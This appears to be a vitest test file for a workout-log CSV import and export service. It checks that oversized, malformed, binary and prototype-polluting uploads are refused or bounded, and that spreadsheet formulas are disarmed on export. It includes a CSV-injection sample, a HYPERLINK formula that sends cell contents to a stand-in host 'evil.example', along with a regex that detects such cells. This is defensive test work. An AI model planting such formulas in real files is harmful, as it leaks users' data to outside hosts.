/** F37, S34 and S35: files that are meant to harm are refused by their line, or read within bounds. */
import { describe, expect, test } from "vitest";
import { makeLogReader } from "../../../engine/log/csv/log-reader.ts";
import { packFile, unpackFile } from "../../../worker/services/import-files.ts";
import { api, newAthlete, newPartner } from "../harness.ts";
import { WAIT } from "../job-kit.ts";

const HEADER = "Date,Workout Name,Exercise Name,Weight (kg),Reps,Notes";
const row = (n: number, exercise = "Bench Press", notes = "") => {
  const day = new Date(Date.UTC(2020, 0, 1) + n * 86_400_000).toISOString().slice(0, 10);
  return `${day} 18:00:00,Evening,${exercise},100,5,${notes}`;
};
const tableOf = (...rows: string[]) => [HEADER, ...rows].join("\n");

async function importing() {
  const { key } = await newPartner();
  const athlete = await newAthlete(key);
  const send = (file: string | Uint8Array<ArrayBuffer>, name = "log.csv") => {
    const form = new FormData();
    form.set("athleteId", athlete.id);
    form.set("file", new Blob([file], { type: "text/csv" }), name);
    return api("POST", "/v1/imports", { key, raw: form });
  };
  const take = async (file: string | Uint8Array<ArrayBuffer>) => {
    const { status, body } = await send(file);
    expect(status, JSON.stringify(body.errors)).toBe(201);
    const path = `/v1/imports/${body.id}/commit`;
    const job = await api("POST", path, { key, headers: WAIT, body: { unit: "kg" } });
    expect(job.body.status, JSON.stringify(job.body.error)).toBe("succeeded");
    return job.body.result;
  };
  const logs = async () =>
    (await api("GET", `/v1/workout-logs?athleteId=${athlete.id}`, { key })).body.data;
  return { key, athlete, send, take, logs };
}

/** Refused: with the line where that is known, and nothing kept. */
async function refused(file: string | Uint8Array<ArrayBuffer>) {
  const { key, athlete, send } = await importing();
  const { status, body } = await send(file);
  const kept = await api("GET", `/v1/imports?athleteId=${athlete.id}`, { key });
  expect(kept.body.data).toEqual([]);
  return { status, code: body.code, first: body.errors?.[0] };
}

describe("a file that is too large", () => {
  test("of ten megabytes is refused before it is read", async () => {
    const line = `${row(1)}\n`;
    const file = `${HEADER}\n${line.repeat(Math.ceil(10_000_000 / line.length))}`;
    expect(await refused(file)).toMatchObject({ status: 413, code: "payload_too_large" });
  });

  test("a little above five is refused, not cut off", async () => {
    const notes = "x".repeat(2_000);
    const rows = Array.from({ length: 2_570 }, (_, n) => row(n, "Bench Press", notes));
    const file = tableOf(...rows);
    expect(file.length).toBeGreaterThan(5 * 1024 * 1024);
    expect(file.length).toBeLessThan(5 * 1024 * 1024 + 100_000);
    expect(await refused(file)).toMatchObject({ status: 413, code: "payload_too_large" });
  });

  test("of a million rows is given up after fifty thousand, and little of it is held", () => {
    const reader = makeLogReader({ dialect: null, unit: "kg", timeZone: "UTC" });
    reader.push(`${HEADER}\n`);
    const line = `${row(1).slice(0, 60)}\n`;
    let pushed = 0;
    let given = 0;
    for (; pushed < 1_000_000; pushed += 100) given += reader.push(line.repeat(100)).length;
    given += reader.end().length;
    const report = reader.report();
    expect(report.errors.at(-1)).toMatchObject({ reason: "too_large" });
    expect(report.rows).toBeLessThanOrEqual(50_001);
    expect(given).toBeLessThanOrEqual(report.rows);
    expect(report.most.characters).toBeLessThan(128 * 1024);
    expect(report.most.sets).toBeLessThanOrEqual(60 * 60);
  });

  test("of more sessions than anybody has trained is refused", async () => {
    const at = (n: number) => new Date(Date.UTC(2020, 0, 1) + n * 4 * 3_600_000).toISOString();
    const rows = Array.from({ length: 10_001 }, (_, n) => `${at(n)},A,Bench Press,100,5,`);
    expect(await refused(tableOf(...rows))).toMatchObject({ status: 413 });
  });
});

describe("a file that is made to be held", () => {
  test.each([
    [
      "a quote that is never closed",
      tableOf(`"2026-01-01`, ...Array.from({ length: 9_000 }, (_, n) => row(n))),
      2,
    ],
    ["a hundred thousand columns", `${HEADER}${",x".repeat(100_000)}\n${row(1)}`, 1],
    ["a header of quotes", `${'"'.repeat(300_001)}\n${row(1)}`, 1],
  ])("of %s is refused by its line", async (_, file, line) => {
    const { status, code, first } = await refused(file);
    expect([status, code]).toEqual([422, "import_unreadable"]);
    expect(first.message).toContain(`Line ${line}`);
  });

  test("of a row of a hundred thousand columns loses that row alone", async () => {
    const { send } = await importing();
    const { status, body } = await send(tableOf(row(1), `${row(2)}${",".repeat(100_000)}`, row(3)));
    expect([status, body.preview?.sessions]).toEqual([201, 2]);
    expect(body.preview.errors).toMatchObject([{ line: 3, code: "too_large" }]);
  });

  test("of fifty thousand names is read, and asks of some", async () => {
    const { send } = await importing();
    const rows = Array.from({ length: 49_000 }, (_, n) => row(n % 300, `odd press machine ${n}`));
    // It would take minutes if each name were compared with all that come near it.
    const { status, body } = await send(tableOf(...rows));
    expect(status).toBe(201);
    expect(body.preview.names.length).toBeLessThanOrEqual(500);
  }, 60_000);

  test("of letters that cannot be packed fits into rows of the database all the same", async () => {
    const noise = (length: number) => {
      const codes = crypto.getRandomValues(new Uint16Array(length));
      return String.fromCharCode(...codes.map((code) => 0x4e00 + (code % 20_000)));
    };
    const text = Array.from({ length: 850 }, () => noise(2_000)).join("\n");
    const parts = await packFile(new Blob([text]));
    for (const part of parts) expect(part.length).toBeLessThan(2_000_000);
    let back = "";
    for await (const piece of unpackFile(parts)) back += piece;
    expect(back).toBe(text);
  });
});

describe("a file of strange bytes", () => {
  const bytes = (...parts: (string | number[])[]) =>
    new Uint8Array(
      parts.flatMap((part) =>
        typeof part === "string" ? [...new TextEncoder().encode(part)] : part,
      ),
    );

  test("says which rows cannot be read: NUL, and letters of another encoding", async () => {
    const { send } = await importing();
    const file = bytes(
      `${HEADER}\n${row(1)}\n${row(2, "Bench")}`,
      [0],
      `\n${row(3, "Kn")}`,
      [0xe4, 0xdf],
      `\n${row(4)}\n`,
    );
    const { status, body } = await send(file);
    expect(status).toBe(201);
    expect(body.preview.sessions).toBe(2);
    expect(
      body.preview.errors.map(({ line, code }: Record<string, unknown>) => [line, code]),
    ).toEqual([
      [3, "unreadable_text"],
      [4, "unreadable_text"],
    ]);
  });

  test.each([
    ["that is no text", new Uint8Array(70_000).map((_, n) => (n * 7) % 256)],
    [
      "that is packed",
      new Uint8Array([0x1f, 0x8b, 8, 0, ...Array.from({ length: 500 }, (_, n) => n % 256)]),
    ],
    ["of a mark and nothing else", new Uint8Array([0xff, 0xfe])],
    ["of half a letter", new Uint8Array([0xff, 0xfe, 0x41])],
  ])("%s is refused", async (_, file) => {
    expect(await refused(file)).toMatchObject({ status: 422, code: "import_unreadable" });
  });

  test("that names what every object has is read like any other", async () => {
    const { take, logs } = await importing();
    const names = ["__proto__", "constructor", "toString", "valueOf"];
    expect(await take(tableOf(...names.map((name, n) => row(n, name))))).toMatchObject({
      sessions: 4,
    });
    const read = (await logs()).flatMap(({ entries }: { entries: { name: string }[] }) =>
      entries.map(({ name }) => name),
    );
    expect(read.toSorted()).toEqual(names.toSorted());
    expect(({} as Record<string, unknown>)["polluted"]).toBeUndefined();
  });

  test("that tells of days to come keeps none of them", async () => {
    const { send, take, logs } = await importing();
    const file = tableOf(row(1), "2099-01-01 18:00:00,Evening,Bench Press,100,5,");
    const { body } = await send(file);
    expect(body.preview).toMatchObject({ sessions: 1, sets: 1, errorCount: 1, to: "2020-01-02" });
    expect(body.preview.errors).toMatchObject([{ line: 3, code: "bad_date" }]);
    expect(await take(file)).toMatchObject({ sessions: 1 });
    expect(await logs()).toHaveLength(1);
  });

  test("that says of a session what nobody could tell says nothing of it", async () => {
    const from = await importing();
    const startedAt = "2026-01-05T12:00:00Z";
    const entries = [{ name: "odd", sets: [{ reps: 5, loadKg: 20 }] }];
    const told = { startedAt, entries, sessionRpe: 7, bodyweightKg: 80 };
    const body = { athleteId: from.athlete.id, ...told };
    await api("POST", "/v1/workout-logs", { key: from.key, body });
    const path = `/v1/workout-logs/export?athleteId=${from.athlete.id}`;
    const { body: text } = await api("GET", path, { key: from.key });
    const to = await importing();
    await to.take(text);
    expect(await to.logs()).toMatchObject([{ sessionRpe: 7, bodyweightKg: 80 }]);
    const wild = text
      .replaceAll(/\b7\b/g, "700")
      .replaceAll(/\b80\b/g, "8000")
      .replaceAll(/local_day=[\d-]+/g, "local_day=2026-99-99");
    expect(wild).not.toBe(text);
    const other = await importing();
    await other.take(wild);
    expect(await other.logs()).toMatchObject([
      { sessionRpe: null, bodyweightKg: null, day: "2026-01-05" },
    ]);
  });
});

describe("cells that a spreadsheet would run", () => {
  const FORMULAS = [
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
  ];

  test.each(["fitcsv", "strong", "hevy", "fitnotes"])("go out disarmed as %s", async (format) => {
    const { key, athlete } = await importing();
    for (const [n, notes] of FORMULAS.entries()) {
      const startedAt = new Date(Date.UTC(2026, 0, 1 + n)).toISOString();
      const entries = [{ name: notes, notes, sets: [{ reps: 5, loadKg: 20 }] }];
      const body = { athleteId: athlete.id, startedAt, notes, name: notes, entries };
      expect((await api("POST", "/v1/workout-logs", { key, body })).status).toBe(201);
    }
    const path = `/v1/workout-logs/export?athleteId=${athlete.id}&format=${format}`;
    const { body: text } = await api("GET", path, { key });
    expect(text).toContain("SUM(A1:A9)");
    const armed = /(?:^|[,;\r\n])"?[=+@＝＋－＠\t]|(?:^|[,;\r\n])"?-(?!\d+(?:\.\d+)?"?[,;\r\n])/;
    expect(armed.exec(text.replaceAll('""', "''"))?.[0]).toBeUndefined();
  });

  test("come back from our own form as they were written", async () => {
    const from = await importing();
    for (const [n, notes] of FORMULAS.entries()) {
      const startedAt = new Date(Date.UTC(2026, 0, 1 + n)).toISOString();
      const entries = [{ name: `odd ${n}`, notes, sets: [{ reps: 5, loadKg: 20 }] }];
      const body = { athleteId: from.athlete.id, startedAt, notes, entries };
      await api("POST", "/v1/workout-logs", { key: from.key, body });
    }
    const path = `/v1/workout-logs/export?athleteId=${from.athlete.id}`;
    const { body: text } = await api("GET", path, { key: from.key });
    const to = await importing();
    await to.take(text);
    const gist = (logs: { notes: string; entries: { notes: string }[] }[]) =>
      logs.map(({ notes, entries }) => [notes, entries.map((entry) => entry.notes)]);
    expect(gist(await to.logs())).toEqual(gist(await from.logs()));
    expect(gist(await to.logs())).toHaveLength(FORMULAS.length);
  });
});
